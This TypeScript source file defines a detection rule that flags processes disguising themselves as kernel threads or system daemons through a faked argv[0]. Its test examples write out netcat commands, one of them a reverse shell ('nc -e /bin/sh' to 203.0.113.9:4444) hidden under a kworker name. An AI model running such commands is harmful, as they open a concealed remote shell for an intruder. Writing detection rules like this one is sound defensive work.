import { initPrograms, schedulerPrograms, serverPrograms } from '../lists/processes.ts';
import { baseName, interpreterId, multiCallKind, shellName } from '../names.ts';
import { short } from '../phrases.ts';
import type { Indicator } from './types.ts';

const KERNEL_THREAD =
  /^\[[^\]]+\]$|^(?:kworker|kthreadd|ksoftirqd|migration|rcu_sched|kswapd|kdevtmpfs|khugepaged|kauditd|watchdog|jbd2|scsi_eh)(?:[/_:\d]|$)/;
const DAEMONS = new Set([
  'sshd',
  'systemd',
  'systemd-journald',
  'systemd-udevd',
  'systemd-logind',
  'init',
  'dbus-daemon',
  'rsyslogd',
  'syslogd',
  'syslog-ng',
  'agetty',
  'getty',
  'login',
  'dockerd',
  'containerd',
  'kubelet',
  'kube-proxy',
  'udevd',
  'ntpd',
  'chronyd',
  'polkitd',
  'NetworkManager',
  'auditd',
  'irqbalance',
  'haproxy',
  'envoy',
  'coredns',
  'ps',
  'top',
  'java',
  'node',
  'python',
  'ls',
  'cat',
  'sleep',
  'tail',
  'vim',
  'less',
]);

/** Calls itself something else. */
export const masquerade: Indicator = {
  id: 'masquerade',
  points: 40,
  hard: true,
  mitre: ['T1036.003', 'T1036.004'],
  title: 'Masquerades as another program',
  description:
    "argv[0], or the name the parent's `exec -a` gives, is a kernel thread's in brackets, or (25) the name of a daemon that is not the executed file.",
  evaluate({ process, tool, resolution, relation }) {
    // A sensor that does not tell argv[0] may still show the shell's line that sets it.
    const first = process.argv0_known ? process.argv[0] : relation?.renamed_to;
    if (first === undefined || first === '') return undefined;
    const evidence = short(first, 80);
    if (KERNEL_THREAD.test(first))
      return { evidence, why: `it calls itself ${evidence}, a kernel thread, and is ${tool.id}` };
    const name = baseName(first.split(':')[0] ?? first);
    const files = [process.exe, process.binary].filter((path) => path !== undefined).map(baseName);
    if (
      files.length === 0 ||
      files.includes(name) ||
      tool.names.includes(name) ||
      name === resolution.invoked_as
    )
      return undefined;
    if (
      multiCallKind(name) ||
      (interpreterId(name) !== undefined && files.some((file) => interpreterId(file) !== undefined)) ||
      shellName(name) !== undefined
    )
      return undefined;
    if (
      !DAEMONS.has(name) &&
      !serverPrograms.has(name) &&
      !schedulerPrograms.has(name) &&
      !initPrograms.has(name)
    )
      return undefined;
    return {
      points: 25,
      evidence,
      why: `it calls itself ${evidence} and is ${tool.id} (${short(files[0] ?? '', 80)})`,
    };
  },
  examples: {
    fires: [
      { run: '/usr/bin/nc.traditional db 4444', argv0: '[kworker/0:0]' },
      { run: '/usr/bin/nc.traditional db 4444', argv0: '/usr/sbin/cron' },
      { run: 'bash -c "exec -a [kworker/1:2] nc -e /bin/sh 203.0.113.9 4444"' },
    ],
    silent: [{ run: '/usr/bin/nc.traditional db 4444', argv0: 'nc' }, { run: '/usr/bin/nc db 4444' }],
  },
};
